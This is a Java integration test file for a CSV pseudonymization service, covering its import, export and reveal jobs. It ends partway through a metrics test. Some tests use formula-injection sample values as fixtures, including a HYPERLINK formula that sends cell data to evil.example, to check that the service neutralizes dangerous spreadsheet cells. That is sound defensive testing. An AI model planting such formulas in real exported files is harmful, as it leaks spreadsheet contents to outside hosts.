package org.vfps.job;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import io.vertx.grpc.common.GrpcStatus;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.vfps.ClassResources;
import org.vfps.GrpcTestClient;
import org.vfps.HttpTestClient;
import org.vfps.LogCapture;
import org.vfps.TestPostgres;
import org.vfps.TestService;
import org.vfps.api.x.csvjobs.v1.ColumnMapping;
import org.vfps.api.x.csvjobs.v1.CreateCsvJobRequest;
import org.vfps.api.x.csvjobs.v1.CsvJob;
import org.vfps.api.x.csvjobs.v1.CsvJobDirection;
import org.vfps.api.x.csvjobs.v1.CsvJobServiceGrpcClient;
import org.vfps.api.x.csvjobs.v1.CsvJobStatus;
import org.vfps.api.x.csvjobs.v1.GetCsvJobRequest;
import org.vfps.csv.CsvReader;
import org.vfps.objectstore.TestObjectStore;
import org.vfps.server.VfpsServer;

/**
 * CSV jobs through the REST API, as a script runs them: each direction end to end against a real S3
 * server (s3proxy, which checks signatures) and the real database, the unknown-value modes,
 * placeholders, quoted fields, malformed rows, every import status, an export of a namespace of
 * several pseudonyms per value, and bad input.
 */
class CsvJobsIT {

  private static final Duration TIMEOUT = Duration.ofSeconds(60);

  @RegisterExtension static final ClassResources resources = new ClassResources();

  @RegisterExtension final LogCapture logs = LogCapture.of(Logger.ROOT_LOGGER_NAME);

  /** The runner's lines: a failed job is a warning, kept off the build's output. */
  @RegisterExtension final LogCapture runner = LogCapture.of(CsvJobRunner.class.getName());

  private static VfpsServer server;
  private static HttpTestClient http;
  private static CsvJobClient jobs;

  @BeforeAll
  static void start() {
    Map<String, String> environment = new HashMap<>(TestObjectStore.environment());
    environment.put("ConnectionStrings__PostgreSQL", TestPostgres.uri());
    environment.put("CsvProcessing__MaxUploadBytes", "1000000");
    server = resources.own(TestService.start(environment));
    http = resources.own(new HttpTestClient(server.httpPort()));
    jobs = new CsvJobClient(http);
  }

  private static String namespace(String prefix, JsonObject settings) {
    String name = prefix + "-" + UUID.randomUUID();
    JsonObject request = settings.copy().put("name", name);
    if (!request.containsKey("pseudonymGenerationMethod")) {
      request.put(
          "pseudonymGenerationMethod",
          "PSEUDONYM_GENERATION_METHOD_SECURE_RANDOM_BASE64URL_ENCODED");
      request.put("pseudonymLength", 16);
    }
    HttpTestClient.Response created = http.postJson("/v1/namespaces", request.encode());
    assertThat(created.status()).as(created.body()).isEqualTo(200);
    return name;
  }

  private static String namespace(String prefix) {
    return namespace(prefix, new JsonObject());
  }

  private static String create(String namespace, String originalValue) {
    return jobs.createPseudonym(namespace, originalValue);
  }

  private static List<List<String>> rows(String csv, char delimiter) throws Exception {
    List<List<String>> rows = new java.util.ArrayList<>();
    try (CsvReader reader =
        new CsvReader(
            new java.io.ByteArrayInputStream(csv.getBytes(StandardCharsets.UTF_8)),
            0,
            delimiter,
            1 << 20)) {
      for (var record = reader.next(); record != null; record = reader.next()) {
        rows.add(record.fields());
      }
    }
    return rows;
  }

  private static JsonObject run(JsonObject request, String file) {
    JsonObject started = jobs.submit(request, file.getBytes(StandardCharsets.UTF_8));
    assertThat(started.getString("status"))
        .isIn("CSV_JOB_STATUS_QUEUED", "CSV_JOB_STATUS_RUNNING", "CSV_JOB_STATUS_COMPLETED");
    return jobs.awaitEnd(started.getString("id"), TIMEOUT);
  }

  @Test
  void aPseudonymizeJobReplacesEachMappedColumnKeepingPlaceholdersQuotesAndMalformedRows()
      throws Exception {
    String patients = namespace("patients");
    String cases = namespace("cases");
    String known = create(patients, "p-1");
    String file =
        "patient,name,case\r\n"
            + "p-1,\"Doe, Jane\",c-1\r\n"
            + "p-2,\"two\r\nlines\",NA\r\n"
            + "p-1,plain,\r\n"
            + "  null ,\"said \"\"hi\"\"\",c-2\r\n"
            + "p-3,bro\"ken,c-3\r\n";

    JsonObject done =
        run(
            CsvJobClient.request(
                "PSEUDONYMIZE",
                Map.of("fileName", "patients.csv"),
                CsvJobClient.mapping("patient", null, patients),
                CsvJobClient.mapping("case", "case_pseudonym", cases)),
            file);

    List<List<String>> output = rows(CsvJobClient.download(done), ',');
    assertThat(output.getFirst()).containsExactly("patient", "name", "case", "case_pseudonym");
    assertThat(output.get(1)).containsExactly(known, "Doe, Jane", "c-1", create(cases, "c-1"));
    assertThat(output.get(2)).containsExactly(create(patients, "p-2"), "two\r\nlines", "NA", "NA");
    assertThat(output.get(3)).containsExactly(known, "plain", "", "");
    assertThat(output.get(4))
        .containsExactly("  null ", "said \"hi\"", "c-2", create(cases, "c-2"));
    assertThat(output).hasSize(6);
    assertThat(CsvJobClient.download(done)).endsWith("p-3,bro\"ken,c-3\r\n");
    assertThat(done.getLong("rowsProcessed")).isEqualTo(5);
    assertThat(done.getLong("badDataRowCount")).isEqualTo(1);
    assertThat(done.getLong("missingValueCount")).isEqualTo(3);
    assertThat(done.getLong("unresolvedValueCount")).isZero();
    assertThat(done.getLong("bytesProcessed"))
        .isEqualTo(file.getBytes(StandardCharsets.UTF_8).length);
    assertThat(done.getString("downloadUrl")).contains("patients-pseudonymized.csv");
    assertThat(TestPostgres.pseudonymCount(patients)).isEqualTo(2);
    // the uploaded file, with its original values, is gone; the result stays for its download
    assertThat(
            TestObjectStore.client()
                .size(org.vfps.job.CsvJob.inputKey(UUID.fromString(done.getString("id")))))
        .isEmpty();
    assertThat(
            TestObjectStore.client()
                .size(org.vfps.job.CsvJob.outputKey(UUID.fromString(done.getString("id")))))
        .isPresent();
  }

  @Test
  void aFailIfMissingJobFailsNamingTheRowAndColumnButNeverTheValue() {
    String ns = namespace("fail");
    create(ns, "known-1");
    JsonObject done =
        run(
            CsvJobClient.request(
                "PSEUDONYMIZE",
                Map.of("pseudonymizeMode", "PSEUDONYMIZE_MODE_FAIL_IF_MISSING", "delimiter", ";"),
                CsvJobClient.mapping("id", null, ns)),
            "id;x\nknown-1;a\nsecret-unknown-42;b\n");

    assertThat(done.getString("status")).isEqualTo("CSV_JOB_STATUS_FAILED");
    assertThat(done.getString("errorMessage"))
        .contains("Row 3", "column 'id'", ns)
        .doesNotContain("secret-unknown-42");
    assertThat(done.getString("downloadUrl")).isEmpty();
    assertThat(TestPostgres.pseudonymCount(ns)).isEqualTo(1);
    for (ILoggingEvent event : logs.atLeast(ch.qos.logback.classic.Level.TRACE)) {
      assertThat(event.getFormattedMessage()).doesNotContain("secret-unknown-42");
    }
    for (ILoggingEvent event : runner.atLeast(ch.qos.logback.classic.Level.TRACE)) {
      assertThat(event.getFormattedMessage()).doesNotContain("secret-unknown-42");
    }
    // a failed job is an operator's concern: a warning, though no error of the service
    assertThat(runner.atLeast(ch.qos.logback.classic.Level.TRACE))
        .filteredOn(
            event -> event.getFormattedMessage().startsWith("CSV job " + done.getString("id")))
        .filteredOn(event -> event.getFormattedMessage().contains(" failed: "))
        .singleElement()
        .satisfies(
            event -> {
              assertThat(event.getLevel()).isEqualTo(ch.qos.logback.classic.Level.WARN);
              assertThat(event.getFormattedMessage()).contains("Row 3", "column 'id'");
            });
  }

  @Test
  void aValueTheRegexRefusesFailsTheJobNamingItsRowAndColumnOnly() {
    String ns = namespace("regex", new JsonObject().put("originalValueValidationRegex", "^id-"));

    JsonObject done =
        run(
            CsvJobClient.request("PSEUDONYMIZE", Map.of(), CsvJobClient.mapping("id", null, ns)),
            "id\nid-1\nid-2\nsecret-refused\n");

    assertThat(done.getString("status")).isEqualTo("CSV_JOB_STATUS_FAILED");
    assertThat(done.getString("errorMessage"))
        .isEqualTo(
            "Row 4, column 'id': The original value does not match the required pattern '^id-' for"
                + " namespace '"
                + ns
                + "'.");
  }

  @Test
  void aBlankIfMissingJobLeavesUnknownValuesEmptyAndCountsThem() throws Exception {
    String ns = namespace("blank");
    String known = create(ns, "k");
    JsonObject done =
        run(
            CsvJobClient.request(
                "PSEUDONYMIZE",
                Map.of("pseudonymizeMode", "PSEUDONYMIZE_MODE_BLANK_IF_MISSING"),
                CsvJobClient.mapping("id", null, ns)),
            "id\nk\nu1\nu2\nk\n");

    assertThat(rows(CsvJobClient.download(done), ','))
        .containsExactly(List.of("id"), List.of(known), List.of(""), List.of(""), List.of(known));
    assertThat(done.getLong("unresolvedValueCount")).isEqualTo(2);
    assertThat(TestPostgres.pseudonymCount(ns)).isEqualTo(1);
  }

  @Test
  void aDepseudonymizeJobRevealsKnownPseudonymsAndLeavesOthers() throws Exception {
    String ns = namespace("reveal");
    String first = create(ns, "original-1");
    String second = create(ns, "original-2");
    JsonObject done =
        run(
            CsvJobClient.request(
                "DEPSEUDONYMIZE",
                Map.of("hasHeaderRow", false),
                CsvJobClient.mapping("1", null, ns)),
            "a," + first + "\nb,not-a-pseudonym\nc," + second);

    assertThat(rows(CsvJobClient.download(done), ','))
        .containsExactly(
            List.of("a", "original-1"),
            List.of("b", "not-a-pseudonym"),
            List.of("c", "original-2"));
    assertThat(done.getLong("rowsProcessed")).isEqualTo(3);
  }

  @Test
  void anImportReportsEveryStatusAndOverwritesNothing() throws Exception {
    // the imported pseudonyms fit the namespaces' format: "P-" and four base62 characters
    JsonObject format =
        new JsonObject()
            .put(
                "pseudonymGenerationMethod",
                "PSEUDONYM_GENERATION_METHOD_FULL_RANDOM_BASE62_ENCODED")
            .put("pseudonymLength", 4)
            .put("pseudonymPrefix", "P-");
    String plain =
        namespace("import", format.copy().put("originalValueValidationRegex", "^[a-z0-9-]+$"));
    String parent = namespace("parent");
    // the child's original values must be pseudonyms of its parent
    String inParent = create(parent, "parent-value");
    String child =
        namespace(
            "child",
            format
                .copy()
                .put("parentName", parent)
                .put("parentValidationMode", "PARENT_VALIDATION_MODE_ENSURE_EXISTS"));
    String existing = create(plain, "existing");
    String file =
        String.join(
                "\n",
                "original,pseudonym,namespace",
                "new-1,P-NEW1," + plain,
                "existing," + existing + "," + plain,
                "existing,P-OTHR," + plain,
                "new-2," + existing + "," + plain,
                "NOT VALID,P-XXXX," + plain,
                "not-in-parent,P-YYYY," + child,
                inParent + ",P-ZZZZ," + child,
                "v,P-WWWW,no-such-namespace-" + UUID.randomUUID(),
                ",P-VVVV," + plain,
                "new-3,NULL," + plain,
                "new-1,P-NEW1," + plain)
            + "\n";

    JsonObject request =
        CsvJobClient.request(
            "IMPORT",
            Map.of(),
            new JsonObject()
                .put("sourceColumn", "original")
                .put("targetColumn", "pseudonym")
                .put("namespaceColumn", "namespace"));
    JsonObject done = run(request, file);

    List<List<String>> report = rows(CsvJobClient.download(done), ',');
    assertThat(report.getFirst()).containsExactly("original", "pseudonym", "namespace", "status");
    assertThat(report.stream().skip(1).map(List::getLast))
        .containsExactly(
            "Imported",
            "AlreadyPresent",
            "OriginalValueConflict",
            "PseudonymValueConflict",
            "InvalidOriginalValue",
            "ParentValueMissing",
            "Imported",
            "UnknownNamespace",
            "MissingValue",
            "MissingValue",
            "AlreadyPresent");
    assertThat(report.get(1).subList(0, 3)).containsExactly("new-1", "P-NEW1", plain);
    assertThat(create(plain, "new-1")).isEqualTo("P-NEW1");
    assertThat(create(plain, "existing")).isEqualTo(existing);
    assertThat(create(child, inParent)).isEqualTo("P-ZZZZ");
    assertThat(TestPostgres.pseudonymCount(plain)).isEqualTo(2);
    assertThat(done.getLong("missingValueCount")).isEqualTo(2);
  }

  @Test
  void anImportIntoANamespaceOfSeveralPseudonymsAddsOneThenAnExportWritesEveryPair()
      throws Exception {
    String ns =
        namespace(
            "multi",
            new JsonObject()
                .put("allowsMultiplePseudonyms", true)
                .put(
                    "pseudonymGenerationMethod",
                    "PSEUDONYM_GENERATION_METHOD_FULL_RANDOM_BASE32_ENCODED")
                .put("pseudonymLength", 6));
    String first = create(ns, "person-1");
    JsonObject imported =
        run(
            CsvJobClient.request("IMPORT", Map.of(), CsvJobClient.mapping("o", "p", ns)),
            "o,p\nperson-1,SECOND\nperson-2,ONLYXX\n");
    assertThat(rows(CsvJobClient.download(imported), ','))
        .extracting(List::getLast)
        .containsExactly("status", "Imported", "Imported");

    JsonObject export =
        jobs.create(
            CsvJobClient.request(
                "EXPORT",
                Map.of("delimiter", ";"),
                CsvJobClient.mapping("original_value", "pseudonym_value", ns)));
    assertThat(export.getString("status")).isEqualTo("CSV_JOB_STATUS_QUEUED");
    assertThat(export.getString("uploadUrl")).isEmpty();
    JsonObject done = jobs.awaitEnd(export.getString("id"), TIMEOUT);

    List<List<String>> pairs = rows(CsvJobClient.download(done), ';');
    assertThat(pairs.getFirst()).containsExactly("original_value", "pseudonym_value");
    assertThat(pairs.subList(1, pairs.size()))
        .containsExactlyInAnyOrder(
            List.of("person-1", first),
            List.of("person-1", "SECOND"),
            List.of("person-2", "ONLYXX"));
    assertThat(done.getLong("rowsProcessed")).isEqualTo(3);
  }

  /** Values a spreadsheet runs as a formula (or reads as a number): OWASP's first characters. */
  private static final List<String> FORMULAS =
      List.of(
          "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
          "+49 30 1234",
          "-5",
          "@SUM(A1:A2)",
          "\t=1+1",
          "\r=1+1");

  /** A namespace whose pseudonyms never start with a character a spreadsheet runs. */
  private static String prefixedNamespace(String prefix) {
    return namespace(prefix, new JsonObject().put("pseudonymPrefix", "f-"));
  }

  @Test
  void aRevealNeutralizesEveryCellASpreadsheetWouldRunAndCountsThem() throws Exception {
    String ns = prefixedNamespace("formulas-reveal");
    StringBuilder file = new StringBuilder("pid,note\r\n");
    for (int i = 0; i < FORMULAS.size(); i++) {
      file.append(create(ns, FORMULAS.get(i))).append(",n").append(i).append("\r\n");
    }
    // a cell of the file itself, and a malformed row, which would reach the spreadsheet raw
    file.append(create(ns, "plain")).append(",=1+2\r\n").append("=x,bro\"ken\r\n");

    JsonObject done =
        run(
            CsvJobClient.request(
                "DEPSEUDONYMIZE",
                Map.of("fileName", "f.csv"),
                CsvJobClient.mapping("pid", null, ns)),
            file.toString());

    String output = CsvJobClient.download(done);
    List<List<String>> expected = new java.util.ArrayList<>();
    expected.add(List.of("pid", "note"));
    for (int i = 0; i < FORMULAS.size(); i++) {
      expected.add(List.of("'" + FORMULAS.get(i), "n" + i));
    }
    expected.add(List.of("plain", "'=1+2"));
    expected.add(List.of("'=x,bro\"ken"));
    assertThat(rows(output, ',')).isEqualTo(expected);
    // each neutralized cell is quoted, so that its text is one cell whatever the spreadsheet
    assertThat(output)
        .contains(
            "\r\n\"'-5\",n2\r\n",
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\"",
            "\r\nplain,\"'=1+2\"\r\n",
            "\r\n\"'=x,bro\"\"ken\"\r\n");
    assertThat(done.getBoolean("xNeutralizeFormulas")).isTrue();
    assertThat(done.getLong("xNeutralizedCellCount")).isEqualTo(FORMULAS.size() + 2);
    assertThat(done.getLong("badDataRowCount")).isEqualTo(1);
  }

  @Test
  void anExportNeutralizesOriginalValuesAndAJobMayAskForRawCells() throws Exception {
    String ns = prefixedNamespace("formulas-export");
    Map<String, String> pseudonyms = new HashMap<>();
    for (String value : FORMULAS) {
      pseudonyms.put(value, create(ns, value));
    }
    String plain = create(ns, "plain");

    JsonObject exported =
        jobs.awaitEnd(
            jobs.create(
                    CsvJobClient.request(
                        "EXPORT", Map.of(), CsvJobClient.mapping("original", "pseudonym", ns)))
                .getString("id"),
            TIMEOUT);
    List<List<String>> expected = new java.util.ArrayList<>();
    FORMULAS.forEach(value -> expected.add(List.of("'" + value, pseudonyms.get(value))));
    expected.add(List.of("plain", plain));
    List<List<String>> pairs = rows(CsvJobClient.download(exported), ',');
    assertThat(pairs.subList(1, pairs.size())).containsExactlyInAnyOrderElementsOf(expected);
    assertThat(exported.getLong("xNeutralizedCellCount")).isEqualTo(FORMULAS.size());

    // switched off for one job: the cells as they are stored
    JsonObject raw =
        jobs.awaitEnd(
            jobs.create(
                    CsvJobClient.request(
                        "EXPORT",
                        Map.of("xNeutralizeFormulas", false),
                        CsvJobClient.mapping("original", "pseudonym", ns)))
                .getString("id"),
            TIMEOUT);
    List<List<String>> rawPairs = rows(CsvJobClient.download(raw), ',');
    assertThat(rawPairs.stream().skip(1).map(List::getFirst))
        .containsExactlyInAnyOrderElementsOf(
            java.util.stream.Stream.concat(FORMULAS.stream(), java.util.stream.Stream.of("plain"))
                .toList());
    assertThat(raw.getBoolean("xNeutralizeFormulas")).isFalse();
    assertThat(raw.getLong("xNeutralizedCellCount")).isZero();

    // a de-pseudonymize job switched off writes what it revealed as it is
    JsonObject revealed =
        run(
            CsvJobClient.request(
                "DEPSEUDONYMIZE",
                Map.of("hasHeaderRow", false, "xNeutralizeFormulas", false),
                CsvJobClient.mapping("0", null, ns)),
            pseudonyms.get("-5") + "\n" + pseudonyms.get("@SUM(A1:A2)") + "\n");
    assertThat(CsvJobClient.download(revealed)).isEqualTo("-5\n@SUM(A1:A2)\n");
    assertThat(revealed.getLong("xNeutralizedCellCount")).isZero();
  }

  @Test
  void aPseudonymizeJobWritesCellsAsTheyAreUnlessAsked() throws Exception {
    String ns = prefixedNamespace("formulas-pseudonymize");
    JsonObject kept =
        run(
            CsvJobClient.request("PSEUDONYMIZE", Map.of(), CsvJobClient.mapping("id", null, ns)),
            "id,note\na,-5\n");
    assertThat(rows(CsvJobClient.download(kept), ',').get(1))
        .containsExactly(create(ns, "a"), "-5");
    assertThat(kept.getBoolean("xNeutralizeFormulas")).isFalse();

    JsonObject neutralized =
        run(
            CsvJobClient.request(
                "PSEUDONYMIZE",
                Map.of("xNeutralizeFormulas", true),
                CsvJobClient.mapping("id", null, ns)),
            "id,note\na,-5\n");
    assertThat(rows(CsvJobClient.download(neutralized), ',').get(1))
        .containsExactly(create(ns, "a"), "'-5");
    assertThat(neutralized.getLong("xNeutralizedCellCount")).isEqualTo(1);
  }

  @Test
  void anImportRefusesPseudonymsThatDoNotFitTheNamespacesFormatAndStoresNoneOfThem()
      throws Exception {
    String ns =
        namespace(
            "import-format",
            new JsonObject()
                .put(
                    "pseudonymGenerationMethod",
                    "PSEUDONYM_GENERATION_METHOD_FULL_RANDOM_HEX_ENCODED")
                .put("pseudonymLength", 8)
                .put("pseudonymPrefix", "h-")
                .put("pseudonymSuffix", "-x"));
    String file =
        String.join(
                "\n",
                "original,pseudonym",
                "a,h-0123abcd-x",
                "b,\"=HYPERLINK(\"\"http://evil.example\"\")\"",
                "c,h-0123abc-x",
                "d,h-0123ABCD-x",
                "e,g-0123abcd-x",
                "f,h-0123abcd-y",
                "g,h-0123abcd",
                "h,h--123abcd-x",
                "-5,h-00000005-x")
            + "\n";

    JsonObject done =
        run(
            CsvJobClient.request(
                "IMPORT", Map.of(), CsvJobClient.mapping("original", "pseudonym", ns)),
            file);

    List<List<String>> report = rows(CsvJobClient.download(done), ',');
    assertThat(report.stream().skip(1).map(List::getLast))
        .containsExactly(
            "Imported",
            "InvalidPseudonymValue",
            "InvalidPseudonymValue",
            "InvalidPseudonymValue",
            "InvalidPseudonymValue",
            "InvalidPseudonymValue",
            "InvalidPseudonymValue",
            "InvalidPseudonymValue",
            "Imported");
    // the report holds original values: neutralized as an export's
    assertThat(report.get(2).get(1)).isEqualTo("'=HYPERLINK(\"http://evil.example\")");
    assertThat(report.get(9).getFirst()).isEqualTo("'-5");
    assertThat(done.getLong("xNeutralizedCellCount")).isEqualTo(2);
    assertThat(TestPostgres.pseudonymCount(ns)).isEqualTo(2);
    assertThat(http.get("/v1/namespaces/" + ns + "/pseudonyms/h-0123abcd-x").status())
        .isEqualTo(200);
  }

  @Test
  void aDelimiterIsOnePrintableAsciiCharacterOrATabCheckedAtCreation() {
    String ns = namespace("delimiters");
    for (String refused :
        List.of("\0", "ä", "€", "\n", "\r", "\"", "a", "Z", "7", "\u0085", "\u007f", ";;")) {
      HttpTestClient.Response answer =
          http.postJson(
              "/v1/csv-jobs",
              CsvJobClient.request(
                      "PSEUDONYMIZE",
                      Map.of("delimiter", refused),
                      CsvJobClient.mapping("id", null, ns))
                  .encode());
      assertThat(answer.status()).as("%s: %s", refused, answer.body()).isEqualTo(400);
      assertThat(answer.json().getInteger("code")).isEqualTo(3);
      assertThat(answer.json().getString("message")).startsWith("delimiter:");
    }
    for (String accepted : List.of("\t", ";", "|", ",", " ", "'", "#", "~")) {
      HttpTestClient.Response answer =
          http.postJson(
              "/v1/csv-jobs",
              CsvJobClient.request(
                      "PSEUDONYMIZE",
                      Map.of("delimiter", accepted),
                      CsvJobClient.mapping("id", null, ns))
                  .encode());
      assertThat(answer.status()).as("%s: %s", accepted, answer.body()).isEqualTo(200);
      assertThat(answer.json().getString("delimiter")).isEqualTo(accepted);
    }
    try (GrpcTestClient grpc = new GrpcTestClient(server.grpcPort())) {
      for (String refused : List.of("\0", "ä")) {
        GrpcTestClient.Reply<CsvJob> reply =
            grpc.call(
                CsvJobServiceGrpcClient.CreateCsvJob,
                CreateCsvJobRequest.newBuilder()
                    .setDirection(CsvJobDirection.CSV_JOB_DIRECTION_PSEUDONYMIZE)
                    .setDelimiter(refused)
                    .addColumnMappings(
                        ColumnMapping.newBuilder().setSourceColumn("id").setNamespace(ns))
                    .build());
        assertThat(reply.status()).as(reply.message()).isEqualTo(GrpcStatus.INVALID_ARGUMENT);
        assertThat(reply.message()).startsWith("delimiter:");
      }
    }
    assertThat(logs.atLeast(ch.qos.logback.classic.Level.ERROR)).isEmpty();
  }

  @Test
  void badInputGetsAClearErrorAndNeverA500() {
    String ns = namespace("bad");
    JsonObject twoCharacters =
        CsvJobClient.request(
            "PSEUDONYMIZE", Map.of("delimiter", ";;"), CsvJobClient.mapping("id", null, ns));
    HttpTestClient.Response refused = http.postJson("/v1/csv-jobs", twoCharacters.encode());
    assertThat(refused.status()).isEqualTo(400);
    assertThat(refused.json().getString("message")).contains("delimiter");

    HttpTestClient.Response noMapping =
        http.postJson(
            "/v1/csv-jobs",
            new JsonObject().put("direction", "CSV_JOB_DIRECTION_PSEUDONYMIZE").encode());
    assertThat(noMapping.status()).isEqualTo(400);

    HttpTestClient.Response modeOfAnother =
        http.postJson(
            "/v1/csv-jobs",
            CsvJobClient.request(
                    "DEPSEUDONYMIZE",
                    Map.of("pseudonymizeMode", "PSEUDONYMIZE_MODE_FAIL_IF_MISSING"),
                    CsvJobClient.mapping("id", null, ns))
                .encode());
    assertThat(modeOfAnother.status()).isEqualTo(400);

    // two mappings, the second of an unknown namespace: the message says which
    String missing = "no-such-" + UUID.randomUUID();
    HttpTestClient.Response unknownNamespace =
        http.postJson(
            "/v1/csv-jobs",
            CsvJobClient.request(
                    "PSEUDONYMIZE",
                    Map.of(),
                    CsvJobClient.mapping("id", null, ns),
                    CsvJobClient.mapping("other", null, missing))
                .encode());
    assertThat(unknownNamespace.status()).isEqualTo(404);
    assertThat(unknownNamespace.json().getString("message"))
        .isEqualTo("The requested pseudonym namespace '" + missing + "' does not exist.");

    HttpTestClient.Response secondMappingIncomplete =
        http.postJson(
            "/v1/csv-jobs",
            CsvJobClient.request(
                    "PSEUDONYMIZE",
                    Map.of(),
                    CsvJobClient.mapping("id", null, ns),
                    CsvJobClient.mapping("other", null, ""))
                .encode());
    assertThat(secondMappingIncomplete.status()).isEqualTo(400);
    assertThat(secondMappingIncomplete.json().getString("message"))
        .isEqualTo("columnMappings[1] (mapping 2): namespace: missing.");

    // an unknown column: refused at start, and the job fails
    JsonObject unknownColumn =
        jobs.create(
            CsvJobClient.request("PSEUDONYMIZE", Map.of(), CsvJobClient.mapping("nope", null, ns)));
    assertThat(CsvJobClient.upload(unknownColumn, "id\n1\n".getBytes(StandardCharsets.UTF_8)))
        .isEqualTo(200);
    HttpTestClient.Response startedWithoutColumn = jobs.start(unknownColumn.getString("id"));
    assertThat(startedWithoutColumn.status()).isEqualTo(400);
    assertThat(startedWithoutColumn.json().getString("message")).contains("no column 'nope'");
    assertThat(jobs.get(unknownColumn.getString("id")).getString("status"))
        .isEqualTo("CSV_JOB_STATUS_FAILED");

    // a file that is not UTF-8 (ISO-8859-1 ä in the header)
    JsonObject latin1 =
        jobs.create(
            CsvJobClient.request("PSEUDONYMIZE", Map.of(), CsvJobClient.mapping("id", null, ns)));
    assertThat(CsvJobClient.upload(latin1, new byte[] {'i', 'd', (byte) 0xE4, '\n', '1', '\n'}))
        .isEqualTo(200);
    HttpTestClient.Response notUtf8 = jobs.start(latin1.getString("id"));
    assertThat(notUtf8.status()).isEqualTo(400);
    assertThat(notUtf8.json().getString("message")).contains("UTF-8");

    // over CsvProcessing__MaxUploadBytes
    JsonObject large =
        jobs.create(
            CsvJobClient.request("PSEUDONYMIZE", Map.of(), CsvJobClient.mapping("id", null, ns)));
    assertThat(
            CsvJobClient.upload(
                large, ("id\n" + "1\n".repeat(600_000)).getBytes(StandardCharsets.UTF_8)))
        .isEqualTo(200);
    HttpTestClient.Response tooLarge = jobs.start(large.getString("id"));
    assertThat(tooLarge.status()).isEqualTo(400);
    assertThat(tooLarge.json().getString("message")).contains("CsvProcessing__MaxUploadBytes");

    // nothing uploaded yet; an upload that tampers with the signature
    JsonObject empty =
        jobs.create(
            CsvJobClient.request("PSEUDONYMIZE", Map.of(), CsvJobClient.mapping("id", null, ns)));
    assertThat(jobs.start(empty.getString("id")).status()).isEqualTo(400);
    JsonObject tampered =
        empty
            .copy()
            .put("uploadUrl", empty.getString("uploadUrl").replace("Signature=", "Signature=0"));
    assertThat(CsvJobClient.upload(tampered, "id\n1\n".getBytes(StandardCharsets.UTF_8)))
        .isEqualTo(403);

    assertThat(http.get("/v1/csv-jobs/not-a-uuid").status()).isEqualTo(400);
    assertThat(http.get("/v1/csv-jobs/" + UUID.randomUUID()).status()).isEqualTo(404);
    assertThat(logs.atLeast(ch.qos.logback.classic.Level.ERROR)).isEmpty();
  }

  @Test
  void gRpcClientsRunJobsAsRestClientsDo() throws Exception {
    String ns = namespace("grpc");
    String pseudonym = create(ns, "via-grpc");
    try (GrpcTestClient grpc = new GrpcTestClient(server.grpcPort())) {
      CsvJob created =
          grpc.ok(
              CsvJobServiceGrpcClient.CreateCsvJob,
              CreateCsvJobRequest.newBuilder()
                  .setDirection(CsvJobDirection.CSV_JOB_DIRECTION_EXPORT)
                  .setHasHeaderRow(false)
                  .setXNeutralizeFormulas(false)
                  .addColumnMappings(
                      ColumnMapping.newBuilder()
                          .setSourceColumn("o")
                          .setTargetColumn("p")
                          .setNamespace(ns))
                  .build());
      assertThat(created.getStatus()).isEqualTo(CsvJobStatus.CSV_JOB_STATUS_QUEUED);
      JsonObject done = jobs.awaitEnd(created.getId(), TIMEOUT);
      assertThat(rows(CsvJobClient.download(done), ','))
          .containsExactly(List.of("via-grpc", pseudonym));
      CsvJob got =
          grpc.ok(
              CsvJobServiceGrpcClient.GetCsvJob,
              GetCsvJobRequest.newBuilder().setId(created.getId()).build());
      assertThat(got.getStatus()).isEqualTo(CsvJobStatus.CSV_JOB_STATUS_COMPLETED);
      assertThat(got.getDownloadUrl()).isNotEmpty();
      assertThat(got.getXNeutralizeFormulas()).isFalse();
      assertThat(created.getXNeutralizeFormulas()).isFalse();
      assertThat(
              grpc.call(
                      CsvJobServiceGrpcClient.GetCsvJob,
                      GetCsvJobRequest.newBuilder().setId("nope").build())
                  .status())
          .isEqualTo(GrpcStatus.INVALID_ARGUMENT);
    }
  }

  @Test
  void aJobTheDotnetServiceStoredShowsUpAsItWasStored() {
    String id = UUID.randomUUID().toString();
    TestPostgres.execute(
        TestPostgres.database(),
        "INSERT INTO pseudonymization_jobs (id, status, created_by, input_object_key,"
            + " output_object_key, encoding, delimiter, has_header_row, column_mappings,"
            + " total_bytes, bytes_processed, rows_processed, error_message, hangfire_job_id,"
            + " created_at, last_updated_at, direction, bad_data_row_count, original_file_name,"
            + " missing_value_count, pseudonymize_mode, unresolved_value_count) VALUES ('"
            + id
            + "', 3, 'anonymous', 'csv-jobs/"
            + id
            + "/input.csv', 'csv-jobs/"
            + id
            + "/output.csv', 'utf-8', ';', true,"
            + " '[{\"SourceColumn\":\"pid\",\"TargetColumn\":null,\"Namespace\":\"legacy\"}]',"
            + " 100, 100, 4, NULL, '17', now(), now(), 2, 1, 'legacy.csv', 2, 0, 0)");

    JsonObject job = jobs.get(id);
    assertThat(job.getString("direction")).isEqualTo("CSV_JOB_DIRECTION_IMPORT");
    assertThat(job.getString("status")).isEqualTo("CSV_JOB_STATUS_COMPLETED");
    assertThat(job.getString("delimiter")).isEqualTo(";");
    assertThat(job.getJsonArray("columnMappings").getJsonObject(0).getString("sourceColumn"))
        .isEqualTo("pid");
    assertThat(job.getLong("rowsProcessed")).isEqualTo(4);
    assertThat(job.getLong("badDataRowCount")).isEqualTo(1);
    assertThat(job.getString("fileName")).isEqualTo("legacy.csv");
  }

  @Test
  void theTimeOfEachPhaseIsExportedAsTheDotnetServiceExportsIt() throws Exception {
    Map<String, String> environment = new HashMap<>(TestObjectStore.environment());
    environment.put("ConnectionStrings__PostgreSQL", TestPostgres.uri());
    int metricsPort = TestService.freePort();
    environment.put("MetricsPort", Integer.toString(metricsPort));
    try (VfpsServer measured = TestService.start(environment);
        HttpTestClient client = new HttpTestClient(measured.httpPort());
        HttpTestClient metrics = new HttpTestClient(metricsPort)) {
      CsvJobClient measuredJobs = new CsvJobClient(client);
      String ns = namespace("metrics");
      JsonObject done =
          jobs.awaitEnd(
              measuredJobs
                  .submit(
                      CsvJobClient.request(
                          "PSEUDONYMIZE", Map.of(), CsvJobClient.mapping("id", null, ns)),
                      "id\na\nb\n".getBytes(StandardCharsets.UTF_8))
                  .getString("id"),
              TIMEOUT);
